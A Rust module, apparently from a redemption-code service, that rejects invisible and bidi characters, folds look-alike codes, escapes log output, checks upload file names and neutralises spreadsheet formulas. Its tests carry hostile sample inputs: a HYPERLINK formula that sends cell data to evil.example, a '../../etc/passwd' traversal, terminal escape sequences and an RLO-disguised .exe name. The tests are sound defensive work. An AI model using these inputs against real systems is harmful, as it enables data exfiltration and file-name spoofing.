//! Text that people read: codes texted to buyers, ids shown in pages,
//! logs and spreadsheets. What a buyer or partner sends is shown as text,
//! never obeyed, so two rules hold at every door:
//!
//! - **No unreadable characters.** A character nobody can see or type — a
//!   control, a format character (zero-width space, soft hyphen, bidi
//!   controls such as U+202E), a private-use or unassigned code point, or
//!   whitespace other than a plain inner space — makes a code or an id
//!   invalid. A buyer cannot type a zero-width space, and a right-to-left
//!   override shows the code reversed on their phone.
//! - **Look-alikes are one code.** Two codes equal under NFKC and case
//!   folding (`LOOK123`, `look123`, `ＬＯＯＫ１２３`) read the same to a person and,
//!   on a platform that ignores case, redeem as the same code. [`fold`]
//!   gives the key they share; a pool whose platform tells case apart
//!   folds by NFKC only. A pool may also fold the characters that people
//!   misread in print ([`LookAlikeRule::confusables`]): `O` as `0`, `I`
//!   and `L` as `1`, as Crockford's base 32 reads them.

use std::fmt;

use unicode_normalization::UnicodeNormalization;
use unicode_properties::{GeneralCategory, UnicodeGeneralCategory};

/// What kind of unreadable character a text holds.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Unreadable {
    Control,
    /// Zero-width characters, soft hyphen, bidi controls (Unicode Cf).
    Format,
    PrivateUse,
    Unassigned,
    /// Whitespace other than an inner ASCII space (no-break, ideographic,
    /// line separators …).
    Whitespace,
}

impl Unreadable {
    fn describe(self) -> &'static str {
        match self {
            Unreadable::Control => "a control character",
            Unreadable::Format => {
                "an invisible format character (zero-width, soft hyphen or bidi control)"
            }
            Unreadable::PrivateUse => "a private-use character",
            Unreadable::Unassigned => "an unassigned code point",
            Unreadable::Whitespace => "whitespace other than a plain space",
        }
    }
}

/// The first unreadable character of a text: which, where, and what kind.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct UnreadableChar {
    /// 1-based position among the text's characters.
    pub position: usize,
    pub ch: char,
    pub kind: Unreadable,
}

impl fmt::Display for UnreadableChar {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "U+{:04X} ({}) at position {}",
            u32::from(self.ch),
            self.kind.describe(),
            self.position
        )
    }
}

/// The kind of unreadable character `c` is, if it is one. A plain ASCII
/// space is readable (callers trim the ends of what they read).
pub fn unreadable_kind(c: char) -> Option<Unreadable> {
    if c.is_ascii() {
        // Every code is read through here: ASCII's only unreadable
        // characters are its controls (`Cc`, tab and newline included).
        return c.is_ascii_control().then_some(Unreadable::Control);
    }
    unreadable_beyond_ascii(c)
}

/// [`unreadable_kind`] by the character's Unicode general category.
fn unreadable_beyond_ascii(c: char) -> Option<Unreadable> {
    if c == ' ' {
        return None;
    }
    match c.general_category() {
        GeneralCategory::Control => Some(Unreadable::Control),
        GeneralCategory::Format => Some(Unreadable::Format),
        GeneralCategory::PrivateUse => Some(Unreadable::PrivateUse),
        GeneralCategory::Unassigned | GeneralCategory::Surrogate => Some(Unreadable::Unassigned),
        GeneralCategory::SpaceSeparator
        | GeneralCategory::LineSeparator
        | GeneralCategory::ParagraphSeparator => Some(Unreadable::Whitespace),
        _ if c.is_whitespace() => Some(Unreadable::Whitespace),
        _ => None,
    }
}

/// An id as it is stored and compared: NFC (see [`crate::Purchase::parse`]),
/// so an id typed or pasted decomposed finds the same order.
pub fn nfc(id: &str) -> String {
    id.nfc().collect()
}

/// A client's own id for a request (a replacement id, a redemption id):
/// trimmed and compared as NFC; `None` when empty, longer than `max`
/// characters, or holding a character nobody can see.
pub fn client_id(id: &str, max: usize) -> Option<String> {
    let id = nfc(id.trim());
    let fits = !id.is_empty() && id.chars().count() <= max;
    (fits && first_unreadable(&id).is_none()).then_some(id)
}

/// The first unreadable character of `text`, if any.
pub fn first_unreadable(text: &str) -> Option<UnreadableChar> {
    text.chars().enumerate().find_map(|(i, ch)| {
        unreadable_kind(ch).map(|kind| UnreadableChar {
            position: i + 1,
            ch,
            kind,
        })
    })
}

/// The key every per-buyer rule compares a buyer's `uid` by (per-user
/// limits, open holds, the share one buyer may hold): NFKC with case
/// folding, so `mallory`, `Mallory` and the full-width `ｍａｌｌｏｒｙ`
/// are one buyer. The uid itself is stored and shown as sent.
pub fn buyer_key(uid: &str) -> String {
    fold(uid, false)
}

/// The key two look-alike codes share: NFKC, then (unless the pool's
/// platform tells case apart) full case folding and NFKC again, which is
/// Unicode's compatibility caseless match. Equal keys, one code.
pub fn fold(code: &str, case_sensitive: bool) -> String {
    if code.is_ascii() {
        // ASCII is its own NFKC, and its full case folding is lowercase:
        // the same key without the tables, for nearly every code.
        return match case_sensitive {
            true => code.to_owned(),
            false => code.to_ascii_lowercase(),
        };
    }
    fold_beyond_ascii(code, case_sensitive)
}

/// [`fold`] by the Unicode tables.
fn fold_beyond_ascii(code: &str, case_sensitive: bool) -> String {
    let compatible: String = code.nfkc().collect();
    if case_sensitive {
        return compatible;
    }
    caseless::default_case_fold_str(&compatible)
        .nfkc()
        .collect()
}

/// Which codes of a pool read the same to a person: a pool's setting,
/// fixed once the pool holds a code (the look-alike keys of its codes are
/// made by it).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct LookAlikeRule {
    /// The pool's platform tells `ABC` from `abc`.
    pub case_sensitive: bool,
    /// `O` reads as `0`, and `I` and `L` as `1` (either case), as in
    /// Crockford's base 32: codes printed on cards, typed from a photo.
    pub confusables: bool,
}

/// The look-alike key of `code` under `rule`: [`fold`], then, for a pool
/// that folds confusables, `O`/`o` as `0` and `I`/`i`/`L`/`l` as `1`.
pub fn fold_by(code: &str, rule: LookAlikeRule) -> String {
    let folded = fold(code, rule.case_sensitive);
    if !rule.confusables {
        return folded;
    }
    folded
        .chars()
        .map(|c| match c {
            'O' | 'o' => '0',
            'I' | 'i' | 'L' | 'l' => '1',
            c => c,
        })
        .collect()
}

/// The keys a code is compared by across pools: a code sits in one pool
/// as codepool compares codes, so a look-alike of another pool's code is
/// that code. Across pools case is always folded (a person reads `RACE-1`
/// and `race-1` as one code, whatever either platform does), and
/// confusables are folded wherever either pool folds them. `wide` folds
/// them (NFKC, case, `O`/`0`, `I`/`L`/`1`), `narrow` does not (NFKC and
/// case): two codes of pools that both keep confusables apart are one
/// code when their `narrow` keys are equal; otherwise when their `wide`
/// keys are.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CrossPoolKeys {
    pub wide: String,
    pub narrow: String,
}

/// [`CrossPoolKeys`] of `code`.
pub fn cross_pool_keys(code: &str) -> CrossPoolKeys {
    let narrow = fold(code, false);
    let wide = fold_by(
        code,
        LookAlikeRule {
            case_sensitive: false,
            confusables: true,
        },
    );
    CrossPoolKeys { wide, narrow }
}

/// True for a character a terminal would obey or hide rather than show:
/// controls other than newline and tab (ESC starts a terminal command),
/// bidi controls and invisible format characters, line separators.
pub fn hidden_on_terminal(c: char) -> bool {
    match c {
        '\n' | '\t' => false,
        '\u{061c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' => true,
        '\u{2060}'..='\u{2069}' | '\u{feff}' => true,
        c => c.is_control(),
    }
}

/// `text` with every [`hidden_on_terminal`] character escaped, as the
/// logs do: `\u{202e}`, or `\u202e` (valid inside a JSON string) with
/// `json`. What reaches an operator's terminal is shown, never obeyed.
pub fn terminal_text(text: &str, json: bool) -> std::borrow::Cow<'_, str> {
    if !text.chars().any(hidden_on_terminal) {
        return text.into();
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if !hidden_on_terminal(c) {
            out.push(c);
        } else if json {
            out.push_str(&format!("\\u{:04x}", u32::from(c)));
        } else {
            out.push_str(&format!("\\u{{{:x}}}", u32::from(c)));
        }
    }
    out.into()
}

/// Why a file name is refused.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum FileNameError {
    #[error("the file name is empty or longer than 255 characters")]
    Length,
    #[error(
        "the file name {0:?} is a path; give the file's base name only (no / or \\, not . or ..)"
    )]
    Path(String),
    #[error("the file name holds {0}; give it as plain visible text")]
    Unreadable(UnreadableChar),
}

/// A file name given with an upload (`?file=`): a base name of plain
/// visible text, trimmed. It is shown to operators and recorded, so it is
/// checked like an id.
pub fn checked_file_name(name: &str) -> Result<&str, FileNameError> {
    let name = name.trim();
    if name.is_empty() || name.chars().count() > 255 {
        return Err(FileNameError::Length);
    }
    if let Some(bad) = first_unreadable(name) {
        return Err(FileNameError::Unreadable(bad));
    }
    if name.contains(['/', '\\']) || name == "." || name == ".." {
        return Err(FileNameError::Path(name.chars().take(80).collect()));
    }
    Ok(name)
}

/// A CSV cell a spreadsheet will show as text, never run (OWASP "CSV
/// Injection"): a cell starting with `=`, `+`, `-`, `@`, a tab or a
/// carriage return gets a leading `'`. Every CSV codepool writes passes
/// each cell through this.
pub fn spreadsheet_cell(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}").into(),
        _ => cell.into(),
    }
}

#[cfg(test)]
mod terminal_tests {
    use super::*;

    #[test]
    fn case_and_width_variants_of_a_uid_are_one_buyer() {
        assert_eq!(buyer_key("mallory"), buyer_key("Mallory"));
        assert_eq!(buyer_key("mallory"), buyer_key("ｍａｌｌｏｒｙ"));
        assert_ne!(buyer_key("mallory"), buyer_key("mallory2"));
    }

    #[test]
    fn terminal_text_escapes_escapes_and_bidi_as_the_logs_do() {
        assert_eq!(
            terminal_text("O-\u{1b}[2J\u{202e}1", false),
            "O-\\u{1b}[2J\\u{202e}1"
        );
        assert_eq!(terminal_text("a\u{202e}b", true), "a\\u202eb");
        assert_eq!(terminal_text("plain\tline\n", false), "plain\tline\n");
    }

    #[test]
    fn file_names_are_base_names_of_visible_text() {
        assert_eq!(checked_file_name(" partner.csv "), Ok("partner.csv"));
        assert!(matches!(
            checked_file_name("../../etc/passwd"),
            Err(FileNameError::Path(_))
        ));
        assert!(matches!(
            checked_file_name("a\\b.csv"),
            Err(FileNameError::Path(_))
        ));
        assert!(matches!(
            checked_file_name(".."),
            Err(FileNameError::Path(_))
        ));
        assert!(matches!(
            checked_file_name("x\u{1b}[31m.csv"),
            Err(FileNameError::Unreadable(_))
        ));
        assert!(matches!(
            checked_file_name("gpj.\u{202e}exe"),
            Err(FileNameError::Unreadable(_))
        ));
        assert_eq!(checked_file_name(""), Err(FileNameError::Length));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_ascii_fast_paths_agree_with_the_unicode_tables_on_every_ascii_character() {
        for b in 0u8..128 {
            let c = char::from(b);
            assert_eq!(unreadable_kind(c), unreadable_beyond_ascii(c), "{b:#04x}");
            let code = format!("Ab{c}9z");
            for case_sensitive in [false, true] {
                assert_eq!(
                    fold(&code, case_sensitive),
                    fold_beyond_ascii(&code, case_sensitive),
                    "{b:#04x}, case-sensitive {case_sensitive}"
                );
            }
        }
        // Beyond ASCII the tables still decide: full-width and ligatures.
        assert_eq!(fold("ＡＢ", false), "ab");
        assert_eq!(fold("ﬃ", true), "ffi");
        assert_eq!(unreadable_kind('\u{200b}'), Some(Unreadable::Format));
    }

    #[test]
    fn formula_cells_are_neutered_and_others_kept() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Click\")",
            "@SUM(A1:A9)",
            "+1",
            "-2",
            "\tx",
            "\rx",
        ] {
            assert_eq!(spreadsheet_cell(formula), format!("'{formula}"));
        }
        for plain in ["O-1001", "", "QWER-1234", "'quoted", "a=b"] {
            assert_eq!(spreadsheet_cell(plain), plain);
        }
    }

    #[test]
    fn invisible_and_unassigned_characters_are_found_with_their_code_point() {
        let cases = [
            ("LOOK\u{200b}123", 5, Unreadable::Format),
            ("LO\u{00ad}OK123", 3, Unreadable::Format),
            ("\u{202e}LOOK123", 1, Unreadable::Format),
            ("LOOK\u{0007}", 5, Unreadable::Control),
            ("A\u{e000}", 2, Unreadable::PrivateUse),
            ("A\u{0378}", 2, Unreadable::Unassigned),
            ("LOOK123\u{00a0}", 8, Unreadable::Whitespace),
            ("LOOK\u{3000}123", 5, Unreadable::Whitespace),
            ("LOOK\t123", 5, Unreadable::Control),
            ("a\u{2028}b", 2, Unreadable::Whitespace),
        ];
        for (text, position, kind) in cases {
            let found = first_unreadable(text).expect(text);
            assert_eq!((found.position, found.kind), (position, kind), "{text:?}");
        }
        let shown = first_unreadable("LOOK\u{200b}123").unwrap().to_string();
        assert!(shown.starts_with("U+200B (an invisible format"), "{shown}");
    }

    #[test]
    fn readable_text_passes_including_inner_spaces_and_other_scripts() {
        for text in [
            "QWER-1234",
            "ABCD EFGH",
            "兑换码-甲乙",
            "ключ-42",
            "ＬＯＯＫ１２３",
            "é",
        ] {
            assert_eq!(first_unreadable(text), None, "{text:?}");
        }
    }

    #[test]
    fn look_alikes_fold_to_one_key() {
        let key = fold("LOOK123", false);
        for alike in ["look123", "ＬＯＯＫ１２３", "LoOk123", "ｌｏｏｋ１２３"] {
            assert_eq!(fold(alike, false), key, "{alike:?}");
        }
        assert_eq!(fold("STRASSE", false), fold("straße", false));
        assert_ne!(fold("LOOK124", false), key);
    }

    #[test]
    fn a_pool_that_folds_confusables_reads_o_as_zero_and_i_l_as_one() {
        let rule = LookAlikeRule {
            case_sensitive: false,
            confusables: true,
        };
        let key = fold_by("G0LD-1O1I", rule);
        for alike in ["GOLD-101L", "gold-l0li", "Ｇ０ＬＤ-１Ｏ１Ｉ"] {
            assert_eq!(fold_by(alike, rule), key, "{alike:?}");
        }
        assert_ne!(fold_by("G0LD-1O1J", rule), key);
        // Without the rule, O and 0 stay two codes.
        assert_ne!(
            fold_by("GOLD", LookAlikeRule::default()),
            fold_by("G0LD", LookAlikeRule::default())
        );
        // A case-sensitive pool folds confusables of both cases, and no
        // other letter's case.
        let sensitive = LookAlikeRule {
            case_sensitive: true,
            confusables: true,
        };
        assert_eq!(fold_by("Oo", sensitive), fold_by("00", sensitive));
        assert_ne!(fold_by("Ab", sensitive), fold_by("ab", sensitive));
    }

    #[test]
    fn a_case_sensitive_pool_folds_width_but_not_case() {
        assert_eq!(fold("ＬＯＯＫ１２３", true), fold("LOOK123", true));
        assert_ne!(fold("look123", true), fold("LOOK123", true));
    }
}
